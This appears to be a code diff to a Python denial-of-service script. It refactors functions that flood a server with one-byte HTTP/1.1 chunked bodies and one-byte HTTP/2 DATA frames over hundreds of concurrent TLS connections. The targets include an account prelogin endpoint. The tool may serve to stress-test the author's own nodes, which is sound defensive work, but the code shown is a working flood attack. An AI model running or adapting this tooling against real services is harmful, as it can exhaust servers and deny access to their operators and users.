@@ -27,6 +27,16 @@ def h2(attack, fields=0, networks=3, connections=600):
     attack.hold()
 
 
+def _flood(attack, send, text, times, what, pieces):
+    """Sends `text` again and again, until the node ends it."""
+    try:
+        for _ in range(times):
+            send(text)
+            attack.count(what, pieces)
+    except OSError:
+        attack.count("ended by the node")
+
+
 def chunks_h1(attack, networks=8, connections=1_450):
     """A body in chunks of one byte each, for a route that does not want it."""
     text = b"1\r\na\r\n" * 2_700
@@ -35,12 +45,7 @@ def chunks_h1(attack, networks=8, connections=1_450):
         made = attack.tls(index % networks, window=4_096)
         made.settimeout(0.3)
         made.sendall(post("/nope"))
-        try:
-            for _ in range(60):
-                made.sendall(text)
-                attack.count("chunks", 2_700)
-        except OSError:
-            attack.count("ended by the node")
+        _flood(attack, made.sendall, text, 60, "chunks", 2_700)
         made.close()
 
     attack.crowd(attack.scaled(connections), one, threads=32)
@@ -48,17 +53,14 @@ def chunks_h1(attack, networks=8, connections=1_450):
 
 def chunks_h2(attack, networks=8, connections=600):
     """The same in frames of one byte each, on streams that are answered and on one that is not."""
+    text = (http2.frame(http2.DATA, 0, 1, b"a") + http2.frame(http2.DATA, 0, 3, b"a")) * 1_000
+
     def one(index):
         made = http2.Connection(attack.tls(index % networks, "h2"))
         made.socket.settimeout(0.5)
-        try:
-            made.send(http2.request(1, "/nope", "POST", None, is_end=False),
-                      http2.request(3, "/api/v1/accounts/prelogin", "POST", None, is_end=False))
-            for _ in range(16):
-                made.send((http2.frame(http2.DATA, 0, 1, b"a") + http2.frame(http2.DATA, 0, 3, b"a")) * 1_000)
-                attack.count("frames", 2_000)
-        except OSError:
-            attack.count("ended by the node")
+        made.send(http2.request(1, "/nope", "POST", None, is_end=False),
+                  http2.request(3, "/api/v1/accounts/prelogin", "POST", None, is_end=False))
+        _flood(attack, made.send, text, 16, "frames", 2_000)
         made.close()
 
     attack.crowd(attack.scaled(connections), one, threads=32)
